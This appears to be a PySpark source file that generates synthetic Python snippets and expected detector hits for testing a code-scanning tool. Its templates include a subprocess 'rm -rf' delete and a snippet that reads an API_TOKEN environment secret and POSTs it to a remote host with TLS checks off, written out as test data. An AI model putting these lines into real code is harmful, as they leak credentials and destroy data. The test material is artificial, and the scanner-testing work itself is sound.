"""Corpora made from the columns of the driver's tables, each as Spark columns and as the SQL that gives the same rows.

The tables hold no Python, so each event stands for a snippet of one of five templates. The SQL doesn't parse: it states
which hits each template has.
"""

from __future__ import annotations

from pyspark.sql import DataFrame, SparkSession
from pyspark.sql import functions as F

from snipscan.functions import catalog


def table(spark: SparkSession, sf_dir: str, name: str) -> DataFrame:
    return spark.read.parquet(f"{sf_dir}/{name}.parquet")


def dealt(df: DataFrame) -> DataFrame:
    """Rows of a small file over all cores, before they are parsed, which is dear."""
    return df.repartition(df.sparkSession.sparkContext.defaultParallelism)


#: The events' time in milliseconds, whatever the session's time zone.
def millis():
    return F.expr("timestampdiff(MILLISECOND, timestamp_ntz'1970-01-01 00:00:00', ts)")

#: Template by event type; {u} is the user's id and {e} the event's.
TEMPLATES = {
    "view": "import os\nfor p in os.listdir('/data/u{u}'):\n    print(p)\n",
    "click": "import requests\nr = requests.get('https://api.example/{u}')\nopen('out{u}.txt', 'w').write(r.text)\n",
    "purchase": "import subprocess\nsubprocess.run(['rm', '-rf', '/tmp/u{u}'], check=False)\n",
    "error": "import os\n\nkey = os.environ['API_TOKEN']\nimport requests\nrequests.post('https://h/{u}', data=key, verify=False)\n",
    "signup": "x{u} = {e}\n# note\ny = x{u} + 1\n",
}


def snippets(spark: SparkSession, sf_dir: str) -> DataFrame:
    """snippet_id, ts, name, origin, source of each event."""
    e = dealt(table(spark, sf_dir, "events").select("event_id", "ts", "user_id", "event_type"))
    source = F.lit(None).cast("string")
    for kind, text in TEMPLATES.items():
        filled = F.replace(F.replace(F.lit(text), F.lit("{u}"), F.col("user_id").cast("string")), F.lit("{e}"), F.col("event_id").cast("string"))
        source = F.when(F.col("event_type") == kind, filled).otherwise(source)
    return e.select(F.col("event_id").cast("bigint").alias("snippet_id"), millis().alias("ts"), F.concat(F.lit("e"), F.col("event_id").cast("string")).alias("name"), F.concat(F.lit("u"), F.col("user_id").cast("string")).alias("origin"), source.alias("source"), "event_type", "user_id")


#: Expected hits of the templates: (type, seq, line, col, effect, severity, verb, symbol, target before the user's id, target after it, note).
SNIPPET_HITS = """
expected(kind, n, line, col, effect, severity, verb, symbol, t0, t1, note) as (values
  ('view', 1, 2, 10, 'fs_read', 0, 'list', 'os.listdir', '/data/u', '', null),
  ('view', 2, 3, 5, 'stdout', 0, 'print', 'print', null, 'p', null),
  ('click', 1, 2, 5, 'net', 1, 'GET', 'requests.get', 'https://api.example/', '', null),
  ('click', 2, 3, 1, 'fs_write', 1, 'write', '<file>.write', 'open(''out', '.txt'', ''w'')', null),
  ('click', 3, 3, 1, 'fs_write', 1, 'truncate', 'open', 'out', '.txt', null),
  ('purchase', 1, 2, 1, 'process', 2, 'run', 'subprocess.run', 'rm -rf /tmp/u', '', 'runs an external command; recursive delete; check=False — a failing command is ignored'),
  ('error', 1, 3, 7, 'env', 2, 'getenv', 'os.environ', null, 'API_TOKEN', 'reads a secret from the environment'),
  ('error', 2, 5, 1, 'net', 2, 'POST', 'requests.post', 'https://h/', '', 'sends data to a remote host; verify=False — TLS certificates are not checked')),
hits as (
  select event_id as snippet_id, n as pos, line, col, effect, severity, verb, symbol,
    case when t0 is null then t1 else t0 || user_id || t1 end as target, note
  from events join expected on event_type = kind)
"""

EFFECTS_SQL = "[" + ", ".join(f"'{e}'" for e in catalog.EFFECTS) + "]"
#: Hits made from numbers alone, to check the digest apart from the walk.
MADE_HITS = f"""
raw as (
  select cast(floor(event_id / 8.0) as bigint) as snippet_id, cast(event_id as bigint) as seq, event_id % 4 + 1 as line, 1 as col,
    {EFFECTS_SQL}[cast(floor(event_id * 7919 / 11.0) as bigint) % 13 + 1] as effect,
    case cast(floor(event_id * 31 / 7.0) as bigint) % 10 when 0 then 2 when 1 then 1 when 2 then 1 when 3 then 1 else 0 end as severity,
    'v' || (event_id % 2) as verb, case when event_id % 8 < 5 then 's0' else 's1' end as symbol,
    case when event_id % 7 = 0 then null else 't' || (event_id % 3) end as target from events),
dedup as (select * from raw qualify row_number() over (partition by snippet_id, line, col, symbol order by seq) = 1),
bits as (select unnest({EFFECTS_SQL}) as effect, unnest(range(0, 13)) as bit, unnest([0, 2, 2, 0, 2, 0, 2, 3, 1, 1, 1, 1, 3]) as stage),
hits as (
  select d.*, bit, stage, row_number() over (partition by snippet_id order by line, col, seq) as pos from dedup d join bits using (effect))
"""


def made_hits(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Undeduplicated hits from the events' numbers."""
    e = F.col("event_id").cast("bigint")
    names = F.array(*map(F.lit, catalog.EFFECTS))
    step = F.floor(e * 31 / 7.0) % 10
    return table(spark, sf_dir, "events").select(
        F.floor(e / 8.0).alias("snippet_id"), e.alias("seq"), (e % 4 + 1).cast("int").alias("line"), F.lit(1).alias("col"), F.get(names, (F.floor(e * 7919 / 11.0) % 13).cast("int")).alias("effect"),
        F.when(step == 0, 2).when(step <= 3, 1).otherwise(0).alias("severity"), F.concat(F.lit("v"), (e % 2).cast("string")).alias("verb"), F.when(e % 8 < 5, "s0").otherwise("s1").alias("symbol"),
        F.when(e % 7 == 0, None).otherwise(F.concat(F.lit("t"), (e % 3).cast("string"))).alias("target"), F.lit(None).cast("string").alias("note"), F.lit(0).alias("owner"),
    )


def made_events(spark: SparkSession, sf_dir: str) -> DataFrame:
    """Feed events from the events' numbers: seq, ts, source, risk, band, mask, blocked, name, synopsis."""
    e, risk = F.col("event_id").cast("bigint"), (F.col("event_id") * 37 % 101).cast("int")
    band = F.when(risk < 20, "inert").when(risk < 50, "routine").when(risk < 80, "check").otherwise("read")
    return table(spark, sf_dir, "events").select(e.alias("seq"), millis().alias("ts"), F.concat(F.lit("u"), F.col("user_id").cast("string")).alias("source"), risk.alias("risk"), band.alias("band"), (e * 7919 % 8192).cast("int").alias("mask"), (e % 11 == 0).alias("blocked"), F.concat(F.lit("e"), e.cast("string")).alias("name"), F.lit("does things").alias("synopsis"))


MADE_EVENTS = """
feed as (
  select cast(event_id as bigint) as seq, epoch_us(ts) // 1000 as ts, 'u' || user_id as source, event_id * 37 % 101 as risk,
    case when event_id * 37 % 101 < 20 then 'inert' when event_id * 37 % 101 < 50 then 'routine' when event_id * 37 % 101 < 80 then 'check' else 'read' end as band,
    event_id * 7919 % 8192 as mask, event_id % 11 = 0 as blocked, 'e' || event_id as name from events)
"""
